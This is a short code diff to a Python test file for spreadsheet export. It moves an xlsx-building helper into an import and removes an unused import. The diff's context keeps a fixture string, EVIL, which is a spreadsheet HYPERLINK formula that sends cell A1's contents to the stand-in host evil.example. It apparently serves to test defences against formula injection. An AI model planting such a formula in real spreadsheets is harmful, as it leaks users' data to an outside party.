@@ -8,9 +8,10 @@ from __future__ import annotations
 import io
 from datetime import datetime
 
-from openpyxl import Workbook, load_workbook
+from openpyxl import load_workbook
 
 from tests.conftest import ADMIN, GROUP, register, staffed_grid
+from tests.core.test_sheets import _xlsx
 
 EVIL = '=HYPERLINK("http://evil.example/?q="&A1,"厨房水管爆了")'
 
@@ -24,18 +25,6 @@ def _column(ws, header: str) -> list:
     headers = [c.value for c in ws[1]]
     index = headers.index(header) + 1
     return [ws.cell(row, index) for row in range(2, ws.max_row + 1)]
-
-
-def _xlsx(rows, merge: str | None = None) -> bytes:
-    book = Workbook()
-    ws = book.active
-    for row in rows:
-        ws.append(row)
-    if merge:
-        ws.merge_cells(merge)
-    out = io.BytesIO()
-    book.save(out)
-    return out.getvalue()
 
 
 async def _rated_ticket(frontdesk, emulator, admin) -> None:
